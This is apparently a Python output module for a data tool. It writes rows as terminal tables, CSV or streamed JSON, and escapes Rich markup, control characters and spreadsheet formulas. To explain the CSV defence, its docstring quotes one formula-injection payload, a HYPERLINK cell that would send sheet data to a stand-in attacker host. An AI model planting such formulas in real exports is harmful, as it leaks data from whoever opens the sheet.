"""Rows out to people and machines: a table, CSV or JSON, one writer each.

Preview, `suppress list` and the run summary write through here (reports
will too). The CSV and JSON writers stream: memory does not grow with the
rows. Values from data are printed as they are, never interpreted:

* In a table, a str cell would be read as Rich markup (``[/bold]`` fails,
  ``[link=…]`` hides a link) and ``:emoji:`` codes; control characters are
  shown escaped (``\\x1b``) so that they cannot drive the terminal.
* In CSV, a text cell a spreadsheet would read as a formula is written as
  text. Excel, LibreOffice and Google Sheets evaluate a cell that begins with
  ``=``, ``+``, ``-`` or ``@`` (some also after a leading tab or CR), so a
  client named ``=HYPERLINK("http://evil.example/?"&A1,"click")`` would become
  a live link that sends the sheet away. Such a cell gets a ``'`` before it;
  columns named numeric (revenue, counts) are left as they are, so ``-12.50``
  stays a number. A phone such as ``+79161234567`` is text and gets the ``'``
  too (which also keeps a spreadsheet from turning it into ``79161234567``).

The importer's rejects file does not come here: it is a copy of the input
rows, to be fixed and imported again.
"""

from __future__ import annotations

import csv
import json
import re
from collections.abc import Callable, Collection, Iterable, Mapping, Sequence
from typing import TYPE_CHECKING, Any, TextIO, TypeVar

if TYPE_CHECKING:
    from rich.text import Text

T = TypeVar("T")

# (header, justification: "left" | "right" | "center")
Column = tuple[str, str]

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

# C0/C1 controls (ESC starts a terminal escape sequence) and bidi overrides,
# which would reorder what the operator reads.
_UNPRINTABLE = re.compile("[\x00-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]")

WIDE = 200  # a listing's width when not on a terminal: piped to a file, it is not wrapped
JSON_BATCH = 1_000  # items per write: one write call an item cost as much as the item


# ----------------------------------------------------------------------- table


def plain(value: object) -> Text:
    """A value from data as Rich text that is printed as it is (see above)."""
    from rich.text import Text

    text = "" if value is None else str(value)
    return Text(_UNPRINTABLE.sub(lambda m: m.group().encode("unicode_escape").decode(), text))


def write_table(
    out: TextIO,
    title: str,
    columns: Iterable[Column],
    rows: Iterable[Iterable[object]],
    *,
    wide: bool = False,
    **options: Any,
) -> int:
    """Print a table whose title and cells are plain text; return the number of rows.

    ``wide``: a listing, never wrapped, :data:`WIDE` columns unless on a
    terminal; else the terminal's width (``$COLUMNS``), long lines wrapped.
    ``options`` go to Rich's ``Table`` (``show_header``, ``header_style`` …).
    """
    # Rich only for the table: CSV and JSON for machines start faster without it.
    from rich.console import Console
    from rich.table import Table

    table = Table(title=plain(title), **options)
    for header, justify in columns:
        table.add_column(header, justify=justify)  # type: ignore[arg-type]
    n = 0
    for row in rows:
        table.add_row(*map(plain, row))
        n += 1
    if wide:
        console = Console(file=out, soft_wrap=False, width=None if out.isatty() else WIDE)
    else:
        console = Console(file=out, soft_wrap=True)
    console.print(table)
    return n


# ------------------------------------------------------------------------- CSV


def safe_cell(value: Any) -> Any:
    """``'`` before a str that a spreadsheet would read as a formula; else unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def write_csv(
    out: TextIO,
    columns: Sequence[str],
    records: Iterable[Mapping[str, Any]],
    *,
    numeric: Collection[str] = (),
) -> int:
    """A header, then one line a record (keys: ``columns``); every cell
    formula-safe but those of the ``numeric`` columns. Returns the number of records."""
    writer = csv.DictWriter(out, fieldnames=columns, lineterminator="\n")
    writer.writeheader()
    n = 0
    for record in records:
        writer.writerow({k: v if k in numeric else safe_cell(v) for k, v in record.items()})
        n += 1
    return n


# ------------------------------------------------------------------------ JSON


def one_line(item: Any) -> str:
    return json.dumps(item, ensure_ascii=False)


def indented(item: Any) -> str:
    """An item as ``json.dumps(items, indent=1)`` prints it within the array."""
    return " " + json.dumps(item, ensure_ascii=False, indent=1).replace("\n", "\n ")


def write_json(
    out: TextIO,
    items: Iterable[T],
    *,
    dump: Callable[[T], str] = one_line,
) -> int:
    """One JSON array, written as the items stream in (a batch at a time);
    returns the number of items.

    ``dump`` serialises one item: :func:`one_line`, :func:`indented`, or a
    row type's own faster ``to_json``."""
    n = 0
    batch: list[str] = []
    out.write("[")
    for item in items:
        batch.append(dump(item))
        if len(batch) == JSON_BATCH:
            out.write((",\n" if n else "\n") + ",\n".join(batch))
            n += len(batch)
            batch = []
    if batch:
        out.write((",\n" if n else "\n") + ",\n".join(batch))
        n += len(batch)
    out.write("\n]\n" if n else "]\n")
    return n
